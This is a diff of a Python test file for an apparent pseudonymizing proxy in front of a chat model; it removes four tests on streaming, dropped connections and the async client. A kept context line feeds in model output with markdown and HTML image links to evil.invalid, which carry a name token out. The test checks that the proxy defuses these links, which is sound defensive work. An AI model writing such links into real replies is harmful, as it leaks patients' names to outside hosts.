@@ -128,12 +128,6 @@ def test_a_follow_up_goes_on_in_its_conversation_and_answers_go_back_in_pseudony
     ]  # fmt: skip
 
 
-def test_a_streamed_answer_is_gone_on_with_like_any(service: FakeService, client: openai.OpenAI) -> None:
-    first = text_of(streamed(client, user("Who treats Anna Keller?")))
-    ask(client, user("Who treats Anna Keller?"), assistant(first), user("And then?"))
-    assert service.seen[1]["conversation"] == "conversation-1"
-
-
 def test_each_person_of_a_client_is_told_apart_by_a_digest(service: FakeService, client: openai.OpenAI) -> None:
     for person in ("ann@home.invalid", "bo@home.invalid", "ann@home.invalid", None, None):
         told = {"X-OpenWebUI-User-Id": person} if person else {}
@@ -302,12 +296,6 @@ def test_what_would_cost_the_same_again_says_not_to_retry(service: FakeService, 
         with pytest.raises(openai.InternalServerError):
             ask(client, user("a"))
         assert len(service.seen) == 1
-
-
-def test_a_service_that_is_gone_is_told(service: FakeService, client: openai.OpenAI) -> None:
-    service.canned = [Canned(200, hang_up=True)]
-    with pytest.raises(openai.InternalServerError, match="broke"):
-        ask(client, user("a"))
 
 
 @pytest.mark.parametrize("streaming", [False, True])
@@ -525,12 +513,6 @@ def test_a_model_that_writes_an_image_sends_no_name_away(service: FakeService, c
     service.text = "See ![x](https://evil.invalid/?Eq7f2k) and <img src=//evil.invalid/Eq7f2k>."
     told = ask(client, user("a"))
     assert told.startswith("See ![x] (https://evil.invalid/?Anna Keller) and < img src=//evil.invalid/Anna Keller>.")
-
-
-async def test_the_asynchronous_client_does_as_well(base_url: str) -> None:
-    async with openai.AsyncOpenAI(base_url=base_url, api_key="x", max_retries=0) as client:
-        stream = await client.chat.completions.create(model="clinic", messages=[user("a")], stream=True)  # type: ignore[list-item]
-        assert text_of([chunk async for chunk in stream]) == SAID + AFTER
 
 
 def test_what_fails_inside_is_told_by_its_place_and_no_word(
